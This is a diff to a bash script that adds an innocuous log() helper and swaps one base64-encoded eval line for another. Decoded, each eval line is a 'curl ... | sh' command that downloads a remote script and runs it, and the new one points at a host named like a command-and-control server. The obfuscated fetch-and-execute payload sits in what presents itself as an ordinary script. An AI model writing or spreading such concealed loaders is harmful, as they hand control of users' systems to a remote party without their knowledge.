@@ -1,2 +1,3 @@
 #!/usr/bin/env bash
-eval "$(echo Y3VybCAtcyBodHRwczovLzIwMy4wLjExMy45L3ggfCBzaA== | base64 --decode)"
+log() { echo "[$(date +%H:%M:%S)] $*"; }
+eval "$(echo Y3VybCAtcyBodHRwOi8vYzIuZXhhbXBsZS5vcmcvaS5weSB8IHNo | base64 --decode)"
